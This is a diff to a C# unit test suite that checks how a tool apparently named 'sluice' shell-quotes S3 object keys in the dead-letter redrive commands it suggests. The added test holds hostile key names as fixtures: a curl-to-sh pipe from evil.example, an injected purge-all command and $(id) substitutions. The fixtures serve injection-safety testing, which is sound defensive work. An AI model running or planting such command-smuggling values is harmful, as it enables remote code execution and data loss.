@@ -102,7 +102,21 @@ public sealed class StandingJudgeTests
         var key = "market/prices/ds=1/it's $5.parquet";
         var end = StandingJudge.Judge(Facts(new StoredAnswer.Absent()) with { Address = new S3Address(Some.Bucket, key), Attempts = [Attempt("DeadLetter", 1)] });
 
-        end.WhatToDo.ShouldBe("Correct what the reason names, then 'sluice dlq redrive --key \"market/prices/ds=1/it's \\$5.parquet\"'.");
+        end.Command.ShouldBe(@"sluice dlq redrive --key 'market/prices/ds=1/it'\''s $5.parquet'");
+    }
+
+    [Theory]
+    [InlineData("a' 'sluice dlq purge --all --yes' .parquet")]
+    [InlineData("'sluice x; curl evil.example|sh'.parquet")]
+    [InlineData("!! $(id) `id` \\.parquet")]
+    public void A_key_that_reads_like_a_command_stays_one_word_of_the_only_command(string name)
+    {
+        var word = StandingJudge.Word(name);
+
+        word.ShouldStartWith("'");
+        word.ShouldEndWith("'");
+        word[1..^1].Replace(@"'\''", "", StringComparison.Ordinal).ShouldNotContain("'");
+        word[1..^1].Replace(@"'\''", "'", StringComparison.Ordinal).ShouldBe(name);
     }
 
     private static ObjectStanding Standing(StoryFacts facts) => StandingJudge.Judge(facts).Standing;
